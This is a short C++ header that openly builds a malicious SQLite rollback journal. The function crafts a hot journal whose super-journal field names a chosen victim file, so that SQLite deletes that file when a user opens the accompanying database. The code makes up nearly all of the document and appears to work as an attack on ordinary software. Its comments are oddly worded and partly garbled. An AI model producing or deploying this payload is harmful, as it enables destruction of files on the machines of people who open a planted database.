// A journal that turns SQLite against the user who opens a database.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace approx {

// One that SQLite plays back beside a database of these bytes, without pages, and that names one
// more file as the journal of a commit to several files does. SQLite then deletes that file.
inline std::string journal_naming(std::string_view victim, std::string_view database) {
  constexpr std::string_view kMagic = "\xd9\xd5\x05\xf9\x20\xa1\x63\xd7";
  constexpr uint32_t kSector = 512;
  const auto number = [](uint32_t value) {
    std::string text;
    for (int shift = 24; shift >= 0; shift -= 8) text += static_cast<char>(value >> shift);
    return text;
  };
  // Of the head of the database, where it has one.
  uint32_t page = 4096;
  if (database.size() > 17) {
    page = static_cast<unsigned char>(database[16]) << 8 | static_cast<unsigned char>(database[17]);
    if (page == 1) page = 65536;
    if (page < kSector) page = kSector;
  }
  uint32_t sum = 0;
  for (const char c : victim) sum += static_cast<uint32_t>(static_cast<signed char>(c));
  std::string journal(kMagic);
  journal += number(0) + number(1) + number(static_cast<uint32_t>(database.size()) / page) +
             number(kSector) + number(page);
  journal.resize(kSector);
  journal += number(0x40000000 / page + 1);  // the page of SQLite's locks
  journal += victim;
  journal += number(static_cast<uint32_t>(victim.size())) + number(sum);
  journal += kMagic;
  return journal;
}

}  // namespace approx
